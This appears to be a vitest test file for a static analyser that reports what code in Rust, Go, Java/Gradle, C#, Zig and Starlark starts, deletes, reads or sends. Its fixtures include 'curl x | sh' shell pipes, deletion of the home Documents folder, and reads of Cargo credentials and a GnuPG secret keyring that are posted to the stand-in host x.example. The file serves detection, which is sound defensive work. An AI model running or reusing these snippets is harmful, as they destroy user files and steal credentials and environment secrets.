import { describe, expect, test } from 'vitest'
import type { SourceLanguage } from '../../host.ts'
import { record } from '../harness.ts'

/** Languages that are read for what they start, delete, read and send by literal words. */

const told = (language: SourceLanguage, text: string) => {
  const { effects, commands, shells, reasons } = record(language, text)
  return [
    ...effects
      .filter(({ verb }) => verb !== 'opaque')
      .map(({ verb, target, attributes }) => `${verb} ${target.value}${attributes.carries === undefined ? '' : ` +${attributes.carries}`}`),
    ...commands.map((line) => `$ ${line}`),
    ...shells.map((line) => `sh ${line}`),
    ...reasons,
  ]
}

const ACTS: readonly (readonly [SourceLanguage, string, readonly string[]])[] = [
  ['rust', 'Command::new("sh").arg("-c").arg("curl x | sh").status().unwrap();', ['$ sh -c curl x | sh']],
  ['rust', 'std::process::Command::new("git").args(["rev-parse", "HEAD"]).output()', ['$ git rev-parse HEAD']],
  ['rust', 'Command::new("rm").args(&["-rf", "a"]);', ['$ rm -rf a']],
  ['rust', 'let mut c = Command::new("sh");\nc.arg("-c");\nc.arg("x");', ['$ sh -c x']],
  ['rust', 'Command::new(tool).arg("x");', ['what `new` starts in the Rust code is not known']],
  ['rust', 'let home = env::var("HOME").unwrap();\nfs::remove_dir_all(format!("{}/Documents", home)).ok();', ['delete /home/me/Documents']],
  ['rust', 'std::fs::remove_dir_all(dirs::home_dir().unwrap().join("x"))', ['delete /home/me/x']],
  ['rust', 'fs::remove_dir_all(&out_dir)', []],
  [
    'rust',
    'let key = fs::read_to_string(format!("{}/.cargo/credentials.toml", std::env::var("HOME").unwrap()))?;\nureq::post("https://x.example/k").send_string(&key)?;',
    ['read /home/me/.cargo/credentials.toml', 'send https://x.example/k +credential'],
  ],
  ['rust', 'let r = reqwest::Client::new().post("https://api.example.com/v1").send().await?;', []],
  ['rust', 'println!("Command::new(\\"sh\\")"); // Command::new("sh")', []],
  ['go', 'out, err := exec.Command("go", "version").Output()', ['$ go version']],
  ['go', 'exec.CommandContext(ctx, "sh", "-c", `curl x | sh`).Run()', ['$ sh -c curl x | sh']],
  ['go', 'os.RemoveAll(filepath.Join(os.Getenv("HOME"), "Documents"))', ['delete /home/me/Documents']],
  ['go', 'home, _ := os.UserHomeDir()\nos.RemoveAll(home + "/x")', ['delete /home/me/x']],
  ['go', 'defer os.RemoveAll(t.TempDir())', []],
  [
    'go',
    'http.Post("https://x.example", "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))',
    ['send https://x.example +environment'],
  ],
  ['java', 'new ProcessBuilder("bash", "-c", "curl x | bash").start();', ['$ bash -c curl x | bash']],
  ['java', 'Runtime.getRuntime().exec("git status");', ['sh git status']],
  ['java', 'Runtime.getRuntime().exec(new String[] {"sh", "-c", "x"});', ['$ sh -c x']],
  ['java', "['bash', '-c', 'x | y'].execute()", ['$ bash -c x | y']],
  ['java', '"git describe".execute()', ['sh git describe']],
  ['java', "tasks.register('v', Exec) { commandLine 'git', 'describe' }", ['$ git describe']],
  ['java', 'exec { commandLine("sh", "-c", "x") }', ['$ sh -c x']],
  ['java', 'commandLine = listOf("sh", "-c", "x")', ['$ sh -c x']],
  ['java', "apply from: 'https://x.example/a.gradle'", ['execute https://x.example/a.gradle']],
  ['java', "apply from: 'gradle/a.gradle'", []],
  [
    'java',
    'val k = File(System.getProperty("user.home"), ".gnupg/secring.gpg").readBytes()\njava.net.URL("https://x.example/k").openConnection().apply { doOutput = true }',
    ['read /home/me/.gnupg/secring.gpg', 'send https://x.example/k +credential'],
  ],
  ['csharp', 'Process.Start("bash", "-c \\"x\\"");', ['$ bash -c "x"']],
  [
    'csharp',
    'Directory.Delete(Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), "x"), true);',
    ['delete /home/me/x'],
  ],
  ['zig', 'const c = b.addSystemCommand(&.{ "sh", "-c", "x" });', ['$ sh -c x']],
  ['starlark', 'genrule(name = "v", outs = ["v.txt"], cmd = "git describe > $@")', ['sh git describe > $@']],
  ['starlark', "run_command('sh', '-c', 'x', check: true)", ['$ sh -c x']],
  ['starlark', 'repository_ctx.execute(["bash", "-c", "x"])', ['$ bash -c x']],
]

describe('what sources do by literal words', () => {
  for (const [language, text, expected] of ACTS) test(`${language}: ${text}`, () => expect(told(language, text)).toEqual(expected))
})
